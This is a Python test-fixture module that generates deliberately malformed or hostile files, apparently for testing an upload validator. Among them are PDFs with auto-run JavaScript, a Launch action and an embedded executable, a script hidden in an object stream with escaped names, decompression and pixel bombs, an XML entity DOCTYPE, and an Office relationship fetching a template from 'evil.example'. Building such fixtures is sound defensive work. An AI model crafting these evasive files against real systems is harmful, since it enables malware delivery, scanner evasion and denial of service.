"""Files as people send them, and as people should not."""

import io
import struct
import zipfile
import zlib
from pathlib import Path

from openpyxl import Workbook
from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import DecodedStreamObject, DictionaryObject, NameObject, TextStringObject


def pdf(text="Registre de commerce"):
    writer, out = PdfWriter(), io.BytesIO()
    writer.add_blank_page(200, 200)
    writer.add_metadata({"/Title": text})
    writer.write(out)
    return out.getvalue()


def scan(size):
    """Return a document whose bytes are those of one picture, as a scanner makes it: they are carried, not read."""

    def picture(writer):
        stream = DecodedStreamObject()
        stream.set_data(b"x" * size)
        writer._add_object(stream)

    return pdf_with(picture)


def pdf_with(change):
    writer, out = PdfWriter(), io.BytesIO()
    writer.add_blank_page(200, 200)
    change(writer)
    writer.write(out)
    return out.getvalue()


def scripted_pdf():
    def script(writer):
        words = {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("app.alert(1)")}
        writer.root_object[NameObject("/OpenAction")] = DictionaryObject(words)

    return pdf_with(script)


def launching_pdf():
    def launch(writer):
        action = DictionaryObject(
            {NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("a.exe")}
        )
        writer.root_object[NameObject("/OpenAction")] = action

    return pdf_with(launch)


def carrying_pdf():
    return pdf_with(lambda writer: writer.add_attachment("inner.exe", b"MZ"))


def locked_pdf():
    return pdf_with(lambda writer: writer.encrypt("secret"))


def packed_pdf(body):
    """A document one of whose objects is only seen once an object stream is unpacked."""
    stream = zlib.compress(b"4 0 " + body)
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>",
    ]
    out, places = bytearray(b"%PDF-1.5\n"), {}
    for number, content in enumerate(objects, 1):
        places[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    places[5] = len(out)
    out += b"5 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n" % len(stream)
    out += stream + b"\nendstream\nendobj\n"
    places[6] = len(out)
    rows = [struct.pack(">BIB", 0, 0, 255)]
    rows += [struct.pack(">BIB", 1, places[number], 0) for number in (1, 2, 3)]
    rows += [struct.pack(">BIB", 2, 5, 0)]
    rows += [struct.pack(">BIB", 1, places[number], 0) for number in (5, 6)]
    table = b"".join(rows)
    out += b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 1] /Root 1 0 R /Length %d >>\nstream\n" % len(table)
    out += table + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF" % places[6]
    return bytes(out)


def packed_script_pdf():
    """A packed script, its names spelt with escapes."""
    return packed_pdf(b"<< /S /Java#53cript /#4a#53 (app.alert(1)) >>")


def bursting_pdf():
    """Less than a megabyte that would unpack to two hundred."""
    return packed_pdf(b"<< /Length 1 >>" + b" " * 200_000_000)


def photo(form="JPEG", size=(60, 40), *, located=True):
    image, out = Image.new("RGB", size, "green"), io.BytesIO()
    exif = Image.Exif()
    if located:
        exif[0x010E] = "chez Nadia"
        exif.get_ifd(0x8825).update({1: "N", 2: (34.0, 1.0, 2.0)})
        exif[0x0112] = 6
    image.save(out, form, exif=exif)
    return out.getvalue()


def huge_png():
    """A few kilobytes that would be 900 million pixels."""
    head = struct.pack(">IIBBBBB", 30_000, 30_000, 8, 0, 0, 0, 0)
    rows = zlib.compress(b"\0" * 1_000_000)

    def part(name, data):
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

    return b"\x89PNG\r\n\x1a\n" + part(b"IHDR", head) + part(b"IDAT", rows) + part(b"IEND", b"")


def xlsx():
    book, out = Workbook(), io.BytesIO()
    book.active.append(["kWh", 12])
    book.save(out)
    return out.getvalue()


def xlsx_with(**members):
    out = io.BytesIO(xlsx())
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name.replace("__", "/").replace("_dot_", "."), content)
    return out.getvalue()


def docx(extra=None):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        kind = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
        archive.writestr(
            "[Content_Types].xml", f'<Types><Override PartName="/word/document.xml" ContentType="{kind}"/></Types>'
        )
        archive.writestr("word/document.xml", "<document><body/></document>")
        for name, content in (extra or {}).items():
            archive.writestr(name, content)
    return out.getvalue()


def bomb():
    return xlsx_with(xl__media__zeros_dot_bin=b"\0" * 60_000_000)


DOCTYPE = '<!DOCTYPE a [<!ENTITY x "xxxx">]><a>&x;</a>'
OUTWARD = (
    '<Relationships><Relationship Id="1" TargetMode="External" Target="http://evil.example/t.dotm"'
    ' Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/></Relationships>'
)


def kept_bytes(document):
    from documents.actions.storing import path_of

    return Path(path_of(document.stored)).read_bytes()
